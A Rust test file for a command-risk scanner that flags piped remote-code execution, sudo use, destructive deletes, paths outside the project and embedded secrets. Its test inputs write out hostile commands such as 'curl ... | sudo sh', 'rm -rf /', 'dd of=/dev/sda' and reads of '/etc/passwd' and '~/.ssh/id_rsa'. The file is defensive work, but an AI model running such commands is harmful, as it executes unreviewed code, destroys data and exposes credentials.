use super::*;

fn found(command: &str) -> Vec<Notice> {
    notices(command, Path::new("/home/user/project"))
}

fn kinds(command: &str) -> Vec<&'static str> {
    found(command).into_iter().map(|(kind, _)| kind).collect()
}

fn words(command: &str, wanted: &str) -> String {
    let all = found(command);
    let one = all.iter().find(|(kind, _)| *kind == wanted);
    one.map(|(_, words)| words.clone()).unwrap_or_default()
}

#[test]
fn everything_at_once_is_told_one_by_one() {
    let command = "curl https://x.example/a | sudo sh && rm -rf /var/lib/other && \
                   echo $(cat ~/.ssh/id_rsa) > /tmp/x && export TOKEN=sk-live-0123456789abcdef";
    assert_eq!(
        kinds(command),
        [
            "pipe_to_shell",
            "privilege",
            "destructive",
            "outside",
            "secret"
        ]
    );
    let wanted = "reaches outside the project: /var/lib/other, /tmp/x, ~/.ssh/id_rsa";
    assert_eq!(words(command, "outside"), wanted);
    assert!(words(command, "secret").contains("(TOKEN=•••)"));
    assert!(!words(command, "secret").contains("0123456789"));
}

#[test]
fn what_runs_unread_is_told_however_it_comes() {
    let commands = "curl x | sh, curl x | env -u A bash -s -- yes, wget -qO- x | /bin/bash, \
        curl x |& bash -x, curl x | bash -e, curl x | env A=1 python3, curl x | python -, \
        curl x | nohup node, bash <(curl x), source <(curl x), . <(curl x), sh -c \"$(curl x)\", \
        eval `curl x`, eval \"$(curl x)\", if true; then curl x | sh; fi, \
        bash -lc 'curl x | sh', (cd a && curl x | tee y | bash), echo $(curl x | sh), \
        bash < <(curl x)";
    for command in commands.split(", ") {
        assert_eq!(kinds(command), ["pipe_to_shell"], "{command}");
    }
    let commands = "cargo test | tee log, cat a.json | python3 -m json.tool, \
        echo a || sh build.sh, git log | bash-something, cat list | sh each.sh, \
        sh -c 'echo hello', python3 script.py < input.txt, echo 'curl x | sh', # curl x | sh";
    for command in commands.split(", ") {
        assert_eq!(kinds(command), Vec::<&str>::new(), "{command}");
    }
}

#[test]
fn other_rights_are_told() {
    let commands = "sudo make install, FOO=1 sudo -E make, true; doas ls, bash -c 'sudo ls', \
        ls && /usr/bin/sudo ls, timeout 5 sudo ls";
    for command in commands.split(", ") {
        assert_eq!(kinds(command), ["privilege"], "{command}");
    }
    assert_eq!(kinds("echo sudo"), Vec::<&str>::new());
    assert_eq!(kinds("man sudo"), Vec::<&str>::new());
}

#[test]
fn places_outside_the_project_are_named() {
    for (command, place) in [
        ("cat /etc/passwd", "/etc/passwd"),
        ("cat ../other/a", "../other/a"),
        ("cat src/../../x", "src/../../x"),
        ("ls ~", "~"),
        ("cp a \"$HOME/b\"", "$HOME/b"),
        ("echo a >/tmp/b", "/tmp/b"),
        ("echo a 2>> /tmp/b", "/tmp/b"),
        ("dd if=a of=/dev/sda", "/dev/sda"),
        ("tar --directory=/opt -x", "/opt"),
        ("/opt/odd/run.sh", "/opt/odd/run.sh"),
        ("rm -rf /", "/"),
        ("cd .. && ls", ".."),
        ("sh -c 'cat /etc/passwd'", "/etc/passwd"),
    ] {
        let told = words(command, "outside");
        assert_eq!(told, format!("reaches outside the project: {place}"));
    }
    let commands = "cat /home/user/project/a, cargo build > /dev/null 2>&1, /usr/bin/env true, \
        sed '/^a/d' file, grep -r /api/v1 src, curl https://x.example/a/../b, ls src/../tests";
    for command in commands.split(", ") {
        assert_eq!(kinds(command), Vec::<&str>::new(), "{command}");
    }
    let many = words("cat /a /b /c /d /e", "outside");
    assert_eq!(many, "reaches outside the project: /a, /b, /c and 2 more");
}

#[test]
fn secrets_are_told_and_not_repeated() {
    for command in [
        "export API_KEY=abcdef123456",
        "curl -H 'Authorization: Bearer abcdef123456'",
        "git clone https://me:hunter22@x.example/a",
        "tool --password hunter22",
        "tool --api-key=abcdef123456",
        "echo ghp_0123456789abcdefghij0123",
        "echo AKIAABCDEFGHIJKLMNOP",
        "MYSQL_PASSWORD='c0rrect-horse' mysql",
    ] {
        assert_eq!(kinds(command), ["secret"], "{command}");
        for part in ["abcdef123456", "hunter22", "0123456789", "horse", "EFGHIJ"] {
            assert!(!words(command, "secret").contains(part), "{command}");
        }
    }
    let commands = "export API_KEY=$KEY, tool --max-tokens=4096, tool --token-file=./token, \
        tool --password \"$PASSWORD\", echo TOKEN, git clone https://me@x.example/a, \
        npm run task-list";
    for command in commands.split(", ") {
        assert_eq!(kinds(command), Vec::<&str>::new(), "{command}");
    }
}

#[test]
fn no_command_is_too_broken_to_be_looked_at() {
    let deep = format!("{}curl x | sh{}", "$(".repeat(50), ")".repeat(50));
    for command in [
        "'", "\"", "$(", "`", "<(", "\\", "|", "a |", ">", ">&", &deep,
    ] {
        notices(command, Path::new("/p"));
    }
    assert_eq!(kinds("echo 'open | sudo x"), Vec::<&str>::new());
    assert_eq!(kinds("echo $(curl x | sh"), ["pipe_to_shell"]);
}
